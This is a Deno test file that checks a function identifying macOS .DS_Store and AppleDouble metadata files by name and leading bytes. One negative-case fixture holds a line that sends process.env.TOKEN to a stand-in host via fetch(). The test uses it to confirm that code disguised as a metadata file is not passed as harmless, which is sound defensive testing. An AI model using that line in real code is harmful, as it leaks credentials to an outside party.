import assert from "node:assert/strict";
import { platformMetadata } from "./platform_files.ts";

/** The first bytes Finder writes into a `.DS_Store`, then some of its records. */
export const DS_STORE = new Uint8Array([0, 0, 0, 1, 0x42, 0x75, 0x64, 0x31, 0, 0, 0x10, 0, 0, 0]);
/** An AppleDouble header (RFC 1740): magic, version 2. */
export const APPLE_DOUBLE = new Uint8Array([0, 5, 0x16, 7, 0, 2, 0, 0]);

Deno.test("platformMetadata() needs the name and the format's first bytes", () => {
  assert.match(platformMetadata("src/.DS_Store", DS_STORE) ?? "", /Finder/);
  assert.match(platformMetadata(".ds_store", DS_STORE) ?? "", /Finder/);
  assert.match(platformMetadata("docs/._guide.md", APPLE_DOUBLE) ?? "", /AppleDouble/);
  const code = new TextEncoder().encode("fetch('https://x.example/'+process.env.TOKEN)\n");
  assert.equal(platformMetadata("src/.DS_Store", code), null);
  assert.equal(platformMetadata("src/._x.ts", code), null);
  assert.equal(platformMetadata("src/DS_Store", DS_STORE), null);
  assert.equal(platformMetadata("src/._", APPLE_DOUBLE), null);
  assert.equal(platformMetadata("src/.DS_Store", APPLE_DOUBLE), null);
});
